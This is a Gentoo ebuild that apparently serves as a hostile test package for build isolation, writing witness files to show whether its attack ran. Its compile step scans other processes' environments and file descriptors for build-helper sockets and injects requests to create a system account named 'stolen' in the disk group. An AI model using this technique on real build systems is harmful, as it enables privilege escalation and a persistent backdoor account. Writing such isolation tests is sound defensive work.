EAPI=8
DESCRIPTION="Asks the host of another build, in the name of that"
SLOT=0
S=${WORKDIR}
src_compile() {
	addwrite "${WITNESS}"
	: >"${WITNESS}/evil-runs"
	local file pid environment word socket path
	for file in /proc/[0-9]*/environ; do
		pid=${file#/proc/} pid=${pid%/environ}
		environment=()
		mapfile -d '' -t environment 2>/dev/null <"${file}" || continue
		socket='' path=''
		for word in "${environment[@]}"; do
			[[ ${word} == __EBD_SOCKET=* ]] && socket=${word#*=}
			[[ ${word} == PATH=* ]] && path=${word#*=}
		done
		# Also this build's own, which is no harm: this package may not have accounts made.
		if [[ ${socket} ]]; then
			: >"${WITNESS}/socket-found"
			__EBD_SOCKET=${socket} PATH=${path} useradd --system --groups disk stolen
			__EBD_SOCKET=/proc/${pid}/root${socket} PATH=${path} useradd --system --groups disk stolen
		fi
		# What shells ask through: request, slot, and all.
		for word in 100 101 102 103 104 105 106 107 108 109 110 111; do
			[[ -e /proc/${pid}/fd/${word} && ${pid} != "$$" ]] || continue
			( printf '\x1em useradd --system\0--groups\0disk\0stolen\0\x1e' >"/proc/${pid}/fd/${word}" ) &
		done
	done 2>/dev/null
	sleep 1
	kill $(jobs -p) 2>/dev/null
	return 0
}
